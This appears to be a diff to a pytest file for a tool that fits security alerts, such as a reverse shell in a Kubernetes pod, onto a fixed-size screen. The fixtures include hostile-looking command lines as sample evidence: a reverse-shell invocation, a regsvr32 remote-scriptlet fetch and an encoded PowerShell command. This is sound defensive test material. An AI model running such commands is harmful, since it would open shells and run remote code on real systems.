@@ -11,8 +11,9 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from router.destinations.wording.first_screen import LINES, LINKS, WIDTH, FirstScreen, first_screen_of
+from router.destinations.wording.first_screen import LINES, LINKS, FirstScreen, first_screen_of
 from router.destinations.wording.fitting import MARK
+from router.destinations.wording.screen_lines import WIDTH
 from router.domain.background import NO_BACKGROUND, Background, Counterpart, Earlier
 from router.domain.decisions import Change
 from router.domain.evidence import Evidence
@@ -20,6 +21,7 @@ from router.domain.notices import Link, NamedMember, Notice, Release
 from router.domain.rulebook import Lane, Owner
 from tests.destinations.builders import (
     NOW,
+    RESOURCE,
     a_briefing,
     a_finding,
     a_group,
@@ -257,19 +259,156 @@ def test_a_place_is_not_evidence_beside() -> None:
     """A host that is the location stands there once; another is told."""
     assert "Hosts" not in names_of(screen_of(a_notice(evidence=Evidence(hosts=("VM-PAY-01",)))))
     both = screen_of(a_notice(evidence=Evidence(hosts=("vm-pay-01", "vm-pay-02"))))
-    assert "Hosts: vm-pay-01, vm-pay-02" in lines_of(both)
+    assert "Hosts: vm-pay-02" in lines_of(both)
+
+
+CLUSTER = f"{RESOURCE.partition('/providers/')[0]}/providers/Microsoft.ContainerService/managedClusters/aks-web-weu"
+SHELL = "sh -c 'exec demo-shell 192.0.2.146 4444'"
+
+
+def a_shell_in_a_pod(**changes: Any) -> Notice:
+    """A reverse shell in a pod, with as much beside it as Defender says of one."""
+    values: dict[str, Any] = {
+        "title": "Potential reverse shell detected",
+        "description": "A command in the container checkout redirects a shell's input and output to an outside address.",
+        "severity": "Medium",
+        "resource": CLUSTER,
+        "resource_type": "Microsoft.ContainerService/managedClusters",
+        "resource_group": "rg-web",
+        "cluster": "aks-web-weu",
+        "environment": "production",
+        "evidence": Evidence(
+            pods=("checkout-7d59c6c9bb-r8h4q",), namespaces=("shop",), clusters=("aks-web-weu",), containers=("checkout",),
+            images=("contosoweb.azurecr.example/checkout:4.18.2",), commands=(SHELL,), processes=(SHELL,),
+        ),
+    }  # fmt: skip
+    return a_notice(**values | changes)
+
+
+def test_what_a_place_is_a_part_of_is_not_evidence_beside() -> None:
+    """Cluster, namespace and pod stand in the headline: the lines are for the command, and none of them is counted."""
+    screen = screen_of(a_shell_in_a_pod())
+    assert screen.headline.endswith(" - aks-web-weu/shop/checkout-7d59c6c9bb-r8h4q (production)")
+    assert not {"Pods", "Namespaces", "Clusters", "Processes"} & set(names_of(screen))
+    assert f"Commands: {SHELL}" in lines_of(screen)
+    assert screen.height == LINES
+
+
+def test_a_place_that_is_too_long_for_its_line_keeps_its_end() -> None:
+    """What it is a part of is left out, outermost first."""
+    full = {f"property {number}": f"value {number}" for number in range(25)}
+    screen = screen_of(a_shell_in_a_pod(extended=full, unlisted=tuple(full)))
+    assert "Where: …/shop/checkout-7d59c6c9bb-r8h4q" in lines_of(screen)
+
+
+def test_a_place_that_no_line_has_room_for_stays_evidence() -> None:
+    """A pod of which headline and location say only the beginning is told as evidence."""
+    pod = "checkout-" + "x" * 60
+    screen = screen_of(a_shell_in_a_pod(evidence=Evidence(pods=(pod,), namespaces=("shop",))))
+    assert "Pods" in names_of(screen)
+
+
+@pytest.mark.parametrize("name", ["commands", "processes", "queries"])
+def test_how_it_was_done_comes_before_who_did_it(name: str) -> None:
+    """Where there is no room for all, the lines are for the command, though it stands in its place in the order."""
+    command = r"C:\Windows\System32\regsvr32.exe /s /u /i:http://198.51.100.23/a.sct"
+    lists: dict[str, Any] = {
+        "hosts": ("pay-win-01.corp.contoso.example",), "accounts": ("root",), "ips": ("203.0.113.7",), name: (command,),
+    }  # fmt: skip
+    words = "Somebody ran a program in a way that gets around what watches over programs on the machine. " * 3
+    title = "A title that takes three lines of the screen together with the place that stands behind it"
+    few = screen_of(a_notice(title=title, description=words, evidence=Evidence(**lists)))
+    assert [str(line) for line in evidence_in(few)] == [f"{name.capitalize()}: {command}"]
+    assert few.hidden == 4
+    many = screen_of(a_notice(title="Short", description="", evidence=Evidence(**lists), tactics=(), remediation=()))
+    assert [line.name for line in evidence_in(many)] == ["Hosts", "Accounts", "IP addresses", name.capitalize()]
+
+
+@pytest.mark.parametrize(
+    ("value", "beginning"),
+    [
+        ("c:\\windows\\" + "s" * 140 + "\\regsvr32.exe", "c:\\…\\regsvr32.exe"),
+        ("c:\\Program Files\\" + "s" * 140 + "\\regsvr32.exe /s", "c:\\…\\regsvr32.exe /s"),
+        ('"c:\\Program Files\\' + "s" * 140 + '\\a.exe" -x', '"c:\\…\\a.exe" -x'),
+        ("/usr/" + "s" * 140 + "/bin/run me", "/…/run me"),
+        ("/usr/" + "s" * 140 + "/bin/run /tmp/" + "t" * 140, "/…/run /tmp/tttt"),
+    ],
+)
+def test_a_path_is_cut_in_its_middle(value: str, beginning: str) -> None:
+    """What runs is the end of its path, and what it is told stands behind it."""
+    screen = screen_of(a_notice(evidence=Evidence(processes=(value, "cmd"))))
+    (line,) = (line for line in screen.facts if line.name == "Processes")
+    assert line.text.startswith(beginning)
+
+
+def test_what_a_process_started_is_told_beside_it() -> None:
+    """The first of the processes is often the one that started it, so the beginning of the next is told as well."""
+    processes = (
+        "c:\\windows\\explorer.exe (0x11d8)",
+        f"powershell.exe -NoProfile -EncodedCommand {'VwBy' * 50}",
+        "cmd",
+    )
+    screen = screen_of(a_notice(evidence=Evidence(processes=processes)))
+    (line,) = (line for line in screen.facts if line.name == "Processes")
+    assert line.text.startswith("c:\\…\\explorer.exe (0x11d8), powershell.exe -NoProfile -EncodedCommand VwBy")
+    assert line.text.endswith("…")
+    assert (line.more, line.height) == (" and 1 more", 3)
+
+
+def test_a_path_that_is_no_command_shows_both_its_ends() -> None:
+    """The registry of an image, and its name and tag."""
+    image = f"registry.contoso.example/{'x' * 60}/checkout:4.18.2"
+    screen = screen_of(a_notice(evidence=Evidence(images=(image, "b"))))
+    assert "Images: registry…x/checkout:4.18.2 and 1 more" in lines_of(screen)
+
+
+def test_no_row_ends_with_what_it_leaves_out() -> None:
+    """Where, since when and whose are cut between their parts."""
+    notice = replace(
+        with_others(25),
+        environment="production",
+        subscription_name="Contoso Payments and more",
+        owner=Owner(group="cloud-platform", service="Payments of Contoso"),
+        respond_by="2026-11-25T16:00:00Z",
+    )
+    where, since, owner = lines_of(screen_of(notice))[1:4]
+    assert (where, since) == ("Where: vm-pay-01, production", "Since: 2026-11-24 11:58 UTC")
+    assert owner == "Owner: cloud-platform / Payments of Contoso"
+
+
+def test_a_step_comes_before_properties_in_no_list() -> None:
+    """The first thing to do, and a third line of the description, are told before tactics and what stands in no list."""
+    words = (
+        "Somebody signed in from an address that was never seen before, and at an hour at which nobody ever does it."
+    )
+    screen = screen_of(replace(with_others(25), description=words, evidence=Evidence(ips=("203.0.113.7",))))
+    assert lines_of(screen)[0] == words
+    assert screen.facts[-1].name == "To do"
+    assert screen.hidden > 20
+    assert screen.height == LINES
+
+
+def test_portal_runbook_and_ticket_are_always_among_the_links() -> None:
+    """Further runbooks and what the message names stand behind them."""
+    notice = a_notice(
+        runbooks=tuple(f"https://runbooks.example/{number}" for number in range(5)),
+        links=tuple(Link(text=f"More {number}", url=f"https://a.example/{number}") for number in range(5)),
+    )
+    screen = screen_of(notice, background=Background(elsewhere=(CHAT, TICKET)))
+    assert [link.text for link in screen.links] == ["Azure portal", "Runbook", "Ticket INC0012345 (snow)", "Runbook 2"]
 
 
 def test_a_list_tells_whole_values_and_how_many_more_there_are() -> None:
-    """As many as a line takes; what people copy has two lines; a value that is too long is cut where one can see it."""
+    """As many as a line takes; what people copy has two lines, a command three; what is too long is cut where one sees it."""
     ips = tuple(f"203.0.113.{number}" for number in range(40))
-    screen = screen_of(a_notice(evidence=Evidence(ips=ips, processes=("powershell -enc " + "A" * 500, "cmd"))))
+    processes = ("powershell -enc " + "A" * 500, "cmd")
+    screen = screen_of(a_notice(description="", evidence=Evidence(ips=ips, processes=processes)))
     shown = {line.name: line for line in screen.facts}
     assert str(shown["IP addresses"]) == "IP addresses: 203.0.113.0 and 39 more"
     assert shown["Processes"].is_code
     assert shown["Processes"].text.endswith("A…")
     assert shown["Processes"].more == " and 1 more"
-    assert shown["Processes"].height == 2
+    assert shown["Processes"].height == 3
 
 
 @pytest.mark.parametrize(("over", "is_cut"), [(0, False), (1, True)])
@@ -277,29 +416,39 @@ def test_a_headline_has_three_lines(over: int, is_cut: bool) -> None:
     """135 characters go whole; one more, and it ends with the mark."""
     around = len("Opened: High:  - vm-pay-01")
     headline = screen_of(a_notice(title="x" * (3 * WIDTH - around + over))).headline
-    assert len(headline) == 3 * WIDTH
-    assert headline.endswith(MARK) is is_cut
+    assert (MARK in headline) is is_cut
+    assert headline.endswith(" - vm-pay-01"), "the title gives way"
+    assert is_cut or len(headline) == 3 * WIDTH
 
 
 def test_a_description_ends_with_a_sentence_where_one_is_near() -> None:
     """What is left out is marked, and the last sentence is whole."""
     first = "The process creation analysis found a suspicious command line on the machine."
     screen = screen_of(
-        a_notice(description=f"{first} Attackers are known to use it, as somebody wrote, for many a purpose.")
+        a_notice(
+            description=f"{first} Attackers are known to use it, as somebody wrote, for many a purpose, and others do too.",
+            evidence=Evidence(ips=("203.0.113.7",)),
+            extended={},
+            remediation=("Look.",),
+        )
     )
     assert lines_of(screen)[0] == f"{first} {MARK}"
 
 
 def test_times_say_no_day_and_no_zone_twice() -> None:
-    """By when people should respond, which stays where there is one line only, since when, and when it was last seen."""
+    """Since when, which stays where there is one line only, by when people should respond, and when it was last seen."""
     for respond_by, said in (
-        ("2026-11-24T16:00:00Z", "2026-11-24 16:00 UTC, since 11:58, last seen 11:59"),
-        ("2026-11-25T16:00:00Z", "2026-11-25 16:00 UTC, since 2026-11-24 11:58, last seen 11:59"),
+        ("2026-11-24T16:00:00Z", "2026-11-24 11:58 UTC, respond by 16:00, last seen 11:59"),
+        ("2026-11-25T16:00:00Z", "2026-11-24 11:58 UTC, respond by 2026-11-25 16:00, last seen 2026-11-24 11:59"),
     ):
         screen = screen_of(a_notice(respond_by=respond_by, evidence=Evidence(), tactics=()))
-        assert [line.text for line in screen.facts if line.name == "Respond by"] == [said]
-    full = screen_of(replace(with_others(25), respond_by="2026-11-25T16:00:00Z"))
-    assert [line.text for line in full.facts if line.name == "Respond by"] == ["2026-11-25 16:00 UTC, …"]
+        assert [line.text for line in screen.facts if line.name == "Since"] == [said]
+    for respond_by, said in (
+        ("2026-11-24T16:00:00Z", "2026-11-24 11:58 UTC, respond by 16:00"),
+        ("2026-11-25T16:00:00Z", "2026-11-24 11:58 UTC"),
+    ):
+        full = screen_of(replace(with_others(25), respond_by=respond_by))
+        assert [line.text for line in full.facts if line.name == "Since"] == [said]
 
 
 def test_a_huge_notice_is_a_screen_at_once() -> None:
